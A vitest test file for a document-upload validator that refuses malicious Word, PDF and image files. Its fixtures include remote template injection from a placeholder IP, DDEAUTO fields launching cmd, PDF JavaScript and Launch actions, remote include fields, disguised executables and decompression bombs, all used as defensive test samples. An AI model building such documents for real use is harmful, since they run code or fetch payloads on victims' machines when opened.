/*
 * Attack: a document that does more than show text is uploaded for colleagues to open: macros, a template or picture
 *   from another computer, embedded objects, also in the workbook of a chart; a PDF with scripts, actions that start
 *   programs or send data, or attached files, hidden in escaped names, object streams, strings and comments; files
 *   made to keep the check busy; fields of Word that start programs or load files, split over runs; programs called
 *   pictures; pictures of gigapixels; files that end too early.
 * Before: only a .docx with macros that named itself so was refused; all others were stored and shown. Later every
 *   .docx with a chart was refused, for its workbook.
 * Now: each is refused with its own message and nothing is stored; what only looks like them is accepted.
 */
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  chartDocx,
  compoundFile,
  docWithTemplate,
  docx,
  jpg,
  objectStream,
  pdf,
  pdfWith,
  png,
  rels,
  xlsx,
} from '../fixtures/attachments.ts';
import { startTestServer, type Answer, type TestServer } from '../http/server.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer({ referenceData: false });
});
afterAll(() => server.close());

function upload(name: string, bytes: Buffer, language?: string): Promise<Answer> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)]), name);
  return server.call('POST', '/api/files', { body: form, ...(language === undefined ? {} : { language }) });
}
const stored = async (): Promise<number> =>
  Number((await server.pool.query('select count(*) from kernel.file')).rows[0].count);

const [MACROS, EMBEDDED, EXTERNAL, ENCRYPTED, BOMB, UNREADABLE] = [
  'MSG_upload_0110',
  'MSG_upload_0117',
  'MSG_upload_0118',
  'MSG_upload_0005',
  'MSG_upload_0007',
  'MSG_upload_0112',
];
const [SCRIPT, LAUNCH, ATTACHED, PROTECTED] = [
  'MSG_upload_0119',
  'MSG_upload_0120',
  'MSG_upload_0121',
  'MSG_upload_0122',
];

const DAMAGED = 'MSG_upload_0006';
const [INCOMPLETE, FIELD, PIXELS, FOREIGN, SUBMIT] = [
  'MSG_upload_0127',
  'MSG_upload_0128',
  'MSG_upload_0129',
  'MSG_upload_0130',
  'MSG_upload_0131',
];

/** A Word document whose main part has this text. */
const withText = (xml: string, prolog = ''): Promise<Buffer> =>
  docx(undefined, {
    'word/document.xml': Buffer.from(
      `<?xml version="1.0"?>${prolog}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${xml}</w:p></w:body></w:document>`,
    ),
  });
const run = (xml: string): string => `<w:r>${xml}</w:r>`;
const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`);
/** A field whose instruction is split over several runs. */
const field = (...instruction: string[]): string =>
  [
    mark('begin'),
    ...instruction.map((text) => (text.startsWith('<') ? text : run(`<w:instrText>${text}</w:instrText>`))),
    mark('separate'),
    run('<w:t>result</w:t>'),
    mark('end'),
  ].join('');
const simple = (instruction: string): string => `<w:fldSimple w:instr="${instruction}"/>`;
const withPart = (name: string, bytes: Buffer): Promise<Buffer> => docx(undefined, { [name]: bytes });
/** A picture whose header says that it is larger than it is. */
function largePicture(bytes: Buffer, at: number, sizes: Buffer): Buffer {
  sizes.copy(bytes, at);
  return bytes;
}
const HALF_MILLION = Buffer.from('0007a1200007a120', 'hex');

const withRels = (...each: Parameters<typeof rels>): Promise<Buffer> =>
  docx(undefined, { 'word/_rels/document.xml.rels': rels(...each) });
const settings = (target: string): Promise<Buffer> =>
  docx(undefined, { 'word/_rels/settings.xml.rels': rels(['attachedTemplate', target, true]) });
const sheetRels = (...each: Parameters<typeof rels>): Promise<Buffer> =>
  withChart({ 'xl/_rels/workbook.xml.rels': rels(...each) });
const withChart = async (more?: Record<string, Buffer>, main?: string): Promise<Buffer> =>
  chartDocx(await xlsx(more, main));
const chartOf = async (options: Parameters<typeof chartDocx>[1]): Promise<Buffer> => chartDocx(await xlsx(), options);
const megabytes = (count: number): Buffer => anyBytes(2000, count * 1_000_000);
const SCRIPTED = '<</S/JavaScript/JS(app.alert(1))>>';

type Case = [what: string, name: string, make: () => Buffer | Promise<Buffer>, key: string];
const REFUSED: Case[] = [
  ['macros in a storage', 'a.doc', () => compoundFile(['WordDocument', 'Macros']), MACROS],
  ['macros under another name of theirs', 'a.doc', () => compoundFile(['WordDocument', '_VBA_PROJECT_CUR']), MACROS],
  ['macros in a storage in small letters', 'a.doc', () => compoundFile(['WordDocument', 'vba']), MACROS],
  ['an object', 'a.doc', () => compoundFile(['WordDocument', 'ObjectPool']), EMBEDDED],
  ['a template of a web site', 'a.doc', () => docWithTemplate('http://198.51.100.1/a.dotm'), EXTERNAL],
  [
    'a template of a web site in a small stream',
    'a.doc',
    () => docWithTemplate('http://198.51.100.1/a.dotm', { isSmall: true }),
    EXTERNAL,
  ],
  ['a template of another computer', 'a.doc', () => docWithTemplate('\\\\198.51.100.1\\share\\a.dotm'), EXTERNAL],
  ['a field that starts a program', 'a.doc', () => docWithField('DDEAUTO cmd', 'utf16le'), FIELD],
  ['a field that starts a program, in 8 bits', 'a.doc', () => docWithField(' dde cmd', 'latin1'), FIELD],
  ['a field that loads a text', 'a.doc', () => docWithField('INCLUDETEXT "http://198.51.100.1/a"', 'latin1'), FIELD],
  ['a password', 'a.doc', () => docWithTemplate('Normal.dot', { isEncrypted: true }), ENCRYPTED],
  ['a part with macros', 'a.docx', () => docx(undefined, { 'word/vbaProject.bin': Buffer.from('x') }), MACROS],
  ['macros under another name', 'a.docx', () => withRels(['vbaProject', 'media/image1.png']), MACROS],
  [
    'macros in a type with escaped letters',
    'a.docx',
    () =>
      docx(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Default Extension="x" ContentType="application/vnd.ms-office.&#118;baProject',
      ),
    MACROS,
  ],
  ['a template of a web site', 'a.docx', () => settings('https://198.51.100.1/a.dotm'), EXTERNAL],
  ['a template of another computer', 'a.docx', () => settings('file:///\\\\198.51.100.1\\share\\a.dotm'), EXTERNAL],
  [
    'a template of another computer in escaped letters',
    'a.docx',
    () => settings('file:///%5C%5C198.51.100.1%5Cshare%5Ca.dotm'),
    EXTERNAL,
  ],
  ['a template of another host', 'a.docx', () => settings('file://198.51.100.1/share/a.dotm'), EXTERNAL],
  ['a picture of a web site', 'a.docx', () => withRels(['image', 'http://198.51.100.1/a.png', true]), EXTERNAL],
  ['an object of a web site', 'a.docx', () => withRels(['oleObject', 'http://198.51.100.1/a.html!', true]), EMBEDDED],
  ['a frame of a web site', 'a.docx', () => withRels(['frame', 'http://198.51.100.1/', true]), EXTERNAL],
  ['a part of another document', 'a.docx', () => withRels(['subDocument', 'b.docx', true]), EMBEDDED],
  ['a text that is merged in', 'a.docx', () => withRels(['aFChunk', 'chunk.html']), EMBEDDED],
  [
    'an embedded object',
    'a.docx',
    () => docx(undefined, { 'word/embeddings/oleObject1.bin': Buffer.from('x') }),
    EMBEDDED,
  ],
  ['a control', 'a.docx', () => docx(undefined, { 'word/activeX/activeX1.xml': Buffer.from('x') }), EMBEDDED],
  ['a workbook of a chart with macros', 'a.docx', () => withChart({ 'xl/vbaProject.bin': Buffer.from('x') }), MACROS],
  [
    'a workbook of a chart with macros in its type',
    'a.docx',
    () => withChart({}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
    MACROS,
  ],
  [
    'a workbook of a chart with macros of Excel 4',
    'a.docx',
    () => sheetRels(['xlMacrosheet', 'worksheets/sheet1.xml']),
    EMBEDDED,
  ],
  [
    'a workbook of a chart with an object',
    'a.docx',
    () => withChart({ 'xl/embeddings/oleObject1.bin': Buffer.from('x') }),
    EMBEDDED,
  ],
  [
    'a workbook of a chart with an object elsewhere',
    'a.docx',
    () => sheetRels(['oleObject', 'media/image1.png']),
    EMBEDDED,
  ],
  [
    'a workbook within the workbook of a chart',
    'a.docx',
    async () => withChart({ 'xl/embeddings/a.xlsx': await xlsx() }),
    EMBEDDED,
  ],
  [
    'a workbook of a chart with a link to another file',
    'a.docx',
    () => sheetRels(['externalLink', 'externalLinks/externalLink1.xml']),
    EMBEDDED,
  ],
  ['a workbook of a chart with a connection', 'a.docx', () => sheetRels(['connections', 'connections.xml']), EMBEDDED],
  [
    'a workbook of a chart with a picture of a web site',
    'a.docx',
    () => sheetRels(['image', 'http://198.51.100.1/a.png', true]),
    EXTERNAL,
  ],
  ['a workbook of a chart that is none', 'a.docx', () => chartDocx(Buffer.from('MZ')), EMBEDDED],
  ['a workbook of a chart that is a Word file', 'a.docx', async () => chartDocx(await docx()), EMBEDDED],
  ['a workbook of a chart with a password', 'a.docx', () => chartDocx(compoundFile(['EncryptedPackage'])), EMBEDDED],
  ['a chart of another file', 'a.docx', () => chartOf({ target: 'media/image1.png' }), EMBEDDED],
  [
    'a chart of a workbook outside of the inspected ones',
    'a.docx',
    () => chartOf({ target: '../embeddings/..%2fmedia%2fa.xlsx' }),
    EMBEDDED,
  ],
  [
    'a chart of a web site',
    'a.docx',
    () =>
      chartOf({
        more: { 'word/charts/_rels/chart2.xml.rels': rels(['package', 'http://198.51.100.1/embeddings/a.xlsx', true]) },
      }),
    EMBEDDED,
  ],
  [
    'a workbook that no chart has',
    'a.docx',
    () =>
      chartOf({
        more: { 'word/_rels/document.xml.rels': rels(['package', 'embeddings/Microsoft_Excel_Worksheet.xlsx']) },
      }),
    EMBEDDED,
  ],
  [
    'an object beside a chart',
    'a.docx',
    () => chartOf({ more: { 'word/embeddings/oleObject1.bin': Buffer.from('x') } }),
    EMBEDDED,
  ],
  [
    'charts that unpack to 135 MB together',
    'a.docx',
    async () => {
      const workbook = await xlsx({ 'xl/media/image1.png': megabytes(45) });
      return chartDocx(workbook, { more: { 'word/embeddings/2.xlsx': workbook, 'word/embeddings/3.xlsx': workbook } });
    },
    BOMB,
  ],
  ['a workbook of a chart larger than any upload', 'a.docx', () => chartDocx(megabytes(9)), BOMB],
  [
    'more relationships than any',
    'a.docx',
    () => withRels(...Array.from({ length: 8000 }, (): ['hyperlink', string, true] => ['hyperlink', 'x', true])),
    BOMB,
  ],
  ['a script', 'a.pdf', () => pdfWith([SCRIPTED]), SCRIPT],
  ['a script in escaped letters', 'a.pdf', () => pdfWith(['<</S/J#61va#53cript/J#53(1)>>']), SCRIPT],
  ['a script at the opening of a page', 'a.pdf', () => pdfWith(['<</AA<</O<</S /JavaScript /JS 12 0 R>>>>>>']), SCRIPT],
  ['a script whose sort stands elsewhere', 'a.pdf', () => pdfWith(['<</S 11 0 R/JS(1)>>', '/JavaScript']), SCRIPT],
  ['a script of a rendition', 'a.pdf', () => pdfWith(['<</S/Rendition/JS(1)>>']), SCRIPT],
  ['an XFA form', 'a.pdf', () => pdfWith(['<</XFA 11 0 R>>']), SCRIPT],
  ['a script in an object stream', 'a.pdf', () => pdfWith([objectStream(SCRIPTED)]), SCRIPT],
  ['a script in an object stream that is not packed', 'a.pdf', () => pdfWith([objectStream(SCRIPTED, '')]), SCRIPT],
  [
    'a script in an object stream without its type',
    'a.pdf',
    () => pdfWith([Buffer.from(objectStream(SCRIPTED).toString('latin1').replace('/Type/ObjStm', ''), 'latin1')]),
    SCRIPT,
  ],
  [
    'a script within a text of an object stream',
    'a.pdf',
    () => pdfWith([objectStream(`(${SCRIPTED})`, '/Filter/FlateDecode', '20 1 ')]),
    SCRIPT,
  ],
  ['a script within a text', 'a.pdf', () => pdfWith([`(\n12 0 obj ${SCRIPTED} endobj\n)`]), SCRIPT],
  ['a script within a comment', 'a.pdf', () => pdfWith([`1 % 12 0 obj ${SCRIPTED} endobj`]), SCRIPT],
  [
    'a script within another stream',
    'a.pdf',
    () => pdfWith([`<</Length 99>>stream\n12 0 obj ${SCRIPTED} endobj\nendstream`]),
    SCRIPT,
  ],
  ['a script in an object that does not end', 'a.pdf', () => pdfWith(['<</S/JavaScript']), SCRIPT],
  ['a program to start', 'a.pdf', () => pdfWith(['<</OpenAction<</S/Launch/F(cmd.exe)>>>>']), LAUNCH],
  ['a program to start in escaped letters', 'a.pdf', () => pdfWith(['<</#53/L#61unch/Win<</F(cmd.exe)>>>>']), LAUNCH],
  [
    'a file of another computer to open',
    'a.pdf',
    () => pdfWith(['<</AA<</O<</S/GoToR/D[0/Fit]/F(\\\\\\\\198.51.100.1\\\\a)>>>>>>']),
    LAUNCH,
  ],
  ['an attached program', 'a.pdf', () => pdfWith(['<</Type/Filespec/F(a.xml)/UF(a.exe)/EF<</F 11 0 R>>>>']), ATTACHED],
  [
    'an attached file without a name',
    'a.pdf',
    () => pdfWith(['<</Type/Filespec/F 12 0 R/EF<</F 11 0 R>>>>']),
    ATTACHED,
  ],
  ['multimedia', 'a.pdf', () => pdfWith(['<</Type/Annot/Subtype/RichMedia>>']), ATTACHED],
  ['protection', 'a.pdf', () => pdfWith(['<</Filter/Standard/V 4>>'], '/Encrypt 10 0 R'), PROTECTED],
  [
    'an object stream that is packed twice',
    'a.pdf',
    () => pdfWith([objectStream(SCRIPTED, '/Filter[/ASCIIHexDecode/FlateDecode]')]),
    UNREADABLE,
  ],
  [
    'an object stream that is broken',
    'a.pdf',
    () => pdfWith(['<</Type/ObjStm/N 1/First 5/Filter/FlateDecode>>stream\nbroken\nendstream']),
    UNREADABLE,
  ],
  [
    'an object stream that unpacks to 70 MB',
    'a.pdf',
    () =>
      pdfWith([
        Buffer.concat([
          Buffer.from('<</Type/ObjStm/N 1/First 5/Filter/FlateDecode>>stream\n'),
          deflateSync(Buffer.alloc(70_000_000)),
        ]),
      ]),
    BOMB,
  ],
  ['objects within objects without end', 'a.pdf', () => pdfWith(['obj('.repeat(500_000)]), UNREADABLE],
  [
    'object streams within object streams',
    'a.pdf',
    () => pdfWith(['1 0 obj<</First 999999>>stream\n'.repeat(6000)]),
    UNREADABLE,
  ],
  ['a field that starts a program', 'a.docx', () => withText(field('DDEAUTO c:\\\\cmd.exe &quot;/k&quot;')), FIELD],
  ['a field split over runs', 'a.docx', () => withText(field(' D', 'DE', 'AUTO', ' cmd')), FIELD],
  ['a field in small letters', 'a.docx', () => withText(field(' dde Excel Sheet1 R1')), FIELD],
  ['a simple field that starts a program', 'a.docx', () => withText(simple(' DDEAUTO cmd')), FIELD],
  ['a field that another field names', 'a.docx', () => withText(field(field('QUOTE 68 68 69'), ' cmd')), FIELD],
  [
    'a field in a deleted text',
    'a.docx',
    () => withText(`${mark('begin')}<w:delInstrText>DDE x</w:delInstrText>`),
    FIELD,
  ],
  [
    'a field in a header',
    'a.docx',
    () => withPart('word/header1.xml', Buffer.from(`<h xmlns:w="w"><x>${simple('DDE x')}</x></h>`)),
    FIELD,
  ],
  [
    'a field in a part of another name',
    'a.docx',
    () => withPart('word/a.dat', Buffer.from(`\ufeff <h xmlns:w="w">${simple('DDE x')}</h>`, 'utf16le')),
    FIELD,
  ],
  [
    'a picture field',
    'a.docx',
    () => withText(field('INCLUDEPICTURE "http://198.51.100.1/a.png" \\* MERGEFORMAT')),
    FIELD,
  ],
  ['a text field', 'a.docx', () => withText(field('INCLUDETEXT "\\\\\\\\198.51.100.1\\\\a.docx"')), FIELD],
  ['an import field', 'a.docx', () => withText(simple('IMPORT file://198.51.100.1/a.png')), FIELD],
  ['a link field', 'a.docx', () => withText(field('LINK Excel.Sheet.12 “https://198.51.100.1/a.xlsx” Sheet1')), FIELD],
  [
    'a picture field with a computed address',
    'a.docx',
    () => withText(field('INCLUDEPICTURE ', field('QUOTE x'))),
    FIELD,
  ],
  ['a document type', 'a.docx', () => withText('', '<!DOCTYPE w:document [<!ENTITY a "b">]>'), DAMAGED],
  [
    'a document type in a part of its data',
    'a.docx',
    () => withPart('customXml/item1.xml', Buffer.from('<!DOCTYPE a><a/>')),
    DAMAGED,
  ],
  ['a program among its pictures', 'a.docx', () => withPart('word/media/image1.exe', Buffer.from('x')), FOREIGN],
  ['a program called a picture', 'a.docx', () => withPart('word/media/image1.png', Buffer.from('MZ\x90')), FOREIGN],
  ['a script', 'a.docx', () => withPart('word/a.js', Buffer.from('x')), FOREIGN],
  ['a page', 'a.docx', () => withPart('word/media/a.html', Buffer.from('<html/>')), FOREIGN],
  ['250 gigapixels', 'a.png', () => largePicture(png(), 16, HALF_MILLION), PIXELS],
  [
    '4 gigapixels',
    'a.jpg',
    () => largePicture(jpg(), jpg().indexOf(Buffer.from('ffc0', 'hex')) + 5, Buffer.alloc(4, 255)),
    PIXELS,
  ],
  [
    'a file to open at once',
    'a.pdf',
    () => pdfWith(['<</OpenAction<</S/URI/URI(file:///C:/Windows/a.exe)>>>>']),
    LAUNCH,
  ],
  ['a file to open, in escaped letters', 'a.pdf', () => pdfWith(['<</S/URI/URI(f\\151le://198.51.100.1/a)>>']), LAUNCH],
  ['a file to open, in hexadecimal', 'a.pdf', () => pdfWith(['<</S/URI/URI<66696C653A2F2F61>>>']), LAUNCH],
  [
    'a file to open, in another object',
    'a.pdf',
    () => pdfWith(['<</S/URI/URI 11 0 R>>', '(file://198.51.100.1/a)']),
    LAUNCH,
  ],
  ['files to open, by their common place', 'a.pdf', () => pdfWith(['<</URI<</Base(file://198.51.100.1/)>>>>']), LAUNCH],
  [
    'a form that is sent when a page opens',
    'a.pdf',
    () => pdfWith(['<</AA<</O<</S/SubmitForm/F(http://a)>>>>>>']),
    SUBMIT,
  ],
  ['no end', 'a.pdf', () => pdf().subarray(0, -7), INCOMPLETE],
  ['no place of its table', 'a.pdf', () => Buffer.from(pdf().toString('latin1').replace('startxref', 'x')), INCOMPLETE],
  ['text behind its end', 'a.pdf', () => Buffer.concat([pdf(), Buffer.alloc(5000, 'x')]), INCOMPLETE],
  ['lists within lists without end', 'a.pdf', () => pdfWith(['['.repeat(5_000_000)]), UNREADABLE],
];

test.each(REFUSED)('a file with %s is refused as %s, and not stored', async (_, name, make, key) => {
  const before = await stored();
  expect(await upload(name, await make())).toMatchObject({ status: 400, key, errors: [{ field: 'file', key }] });
  expect(await stored()).toBe(before);
});

describe('harmless content that looks similar is accepted:', () => {
  test.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a link', 'a.docx', () => withRels(['hyperlink', 'https://example.com/', true], ['image', 'media/image1.png'])],
    ['a template of the own machine', 'a.docx', () => settings('file:///C:\\Users\\An%20Na\\Templates\\Letter.dotx')],
    ['a template without a place', 'a.docx', () => settings('Normal.dotm')],
    ['a chart with its workbook', 'a.docx', () => withChart()],
    [
      'charts with workbooks under names of Chinese Word',
      'a.docx',
      async () =>
        chartOf({
          target: '/word/embeddings/Microsoft_Excel_工作表1.xlsx',
          more: { 'word/embeddings/Microsoft_Excel_工作表1.xlsx': await xlsx() },
        }),
    ],
    ['a field with the page number', 'a.doc', () => docWithField(' PAGE ', 'utf16le')],
    ['a template of the own machine', 'a.doc', () => docWithTemplate('C:\\Templates\\Letter.dot')],
    [
      'an empty pool of objects',
      'a.doc',
      () => withoutChildren(compoundFile(['WordDocument', 'ObjectPool']), 'ObjectPool'),
    ],
    [
      'a link to a page about JavaScript',
      'a.pdf',
      () => pdfWith(['<</S/URI/URI(https://example.com/JavaScript/Launch)>>']),
    ],
    [
      'fields of a report',
      'a.docx',
      () =>
        withText(
          [
            field(' PAGE '),
            field(' HYPERLINK ', '"https://example.com/"'),
            field('INCLUDEPICTURE "C:\\\\Users\\\\a.png" \\* MERGEFORMATINET'),
            field('IF ', field('MERGEFIELD a'), ' = "DDE" "x"'),
            run('<w:t>DDEAUTO cmd</w:t>'),
          ].join(''),
        ),
    ],
    ['pictures', 'a.docx', () => withPart('word/media/image1.emf', Buffer.from('x'))],
    ['a title that is a file name', 'a.pdf', () => pdfWith(['<</Title 11 0 R>>', '(file:///C:/a.html)'])],
    ['zeros behind the end', 'a.pdf', () => Buffer.concat([pdf(), Buffer.alloc(1000)])],
    ['words in a text', 'a.pdf', () => pdfWith(['(see /JavaScript and /S /Launch)'])],
    [
      'words in a packed stream',
      'a.pdf',
      () =>
        pdfWith([
          Buffer.concat([Buffer.from('<</Filter/FlateDecode>>stream\n'), deflateSync(Buffer.from('/JavaScript'))]),
        ]),
    ],
    [
      'an honest object stream',
      'a.pdf',
      () => pdfWith([objectStream('<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.com)>>>>')]),
    ],
    [
      'the data of an electronic invoice',
      'a.pdf',
      () => pdfWith(['<</Type/Filespec/F(factur-x.xml)/UF<FEFF00610061002E0078006D006C>/EF<</F 11 0 R>>>>']),
    ],
    [
      'a picture with any bytes',
      'a.pdf',
      () => pdfWith([Buffer.concat([Buffer.from('<</Subtype/Image>>stream\n'), anyBytes(3_000_000)])]),
    ],
  ])('%s in %s', async (_, name, make) => {
    expect(await upload(name, await make())).toMatchObject({ status: 201 });
  });
});

/** A Word 97 document with a field: its marks and instruction stand in the text of the main stream. */
function docWithField(instruction: string, encoding: 'latin1' | 'utf16le'): Buffer {
  const file = docWithTemplate('Normal.dot');
  // after the file information block of the main stream, which begins in the third sector
  Buffer.from(`\x13${instruction}\x14result\x15`, encoding).copy(file, 512 * 3 + 0x400);
  return file;
}

/** Bytes without a pattern, the same each time, and again from the start up to `total`. */
function anyBytes(length: number, total = length): Buffer {
  if (total > length) return Buffer.alloc(total, anyBytes(length));
  const bytes = Buffer.alloc(length);
  for (let index = 0, value = 1; index + 4 <= length; index += 4)
    bytes.writeUInt32LE((value = (Math.imul(value, 1_664_525) + 1_013_904_223) >>> 0), index);
  return bytes;
}

/** Marks an entry of a compound file as empty. */
function withoutChildren(file: Buffer, name: string): Buffer {
  file.writeUInt32LE(0xffffffff, file.indexOf(Buffer.from(name, 'utf16le')) + 76);
  return file;
}

test('the reason is named in the reader’s language', async () => {
  const bytes = await settings('https://198.51.100.1/a.dotm');
  expect((await upload('a.docx', bytes)).message).toBe(
    'The document loads something from another place when it is opened: https://198.51.100.1/a.dotm. Remove that link and upload the document again',
  );
  expect((await upload('a.docx', bytes, 'zh-CN')).message).toBe(
    '文档打开时会从其他位置加载内容：https://198.51.100.1/a.dotm，请删除该链接后重新上传',
  );
});
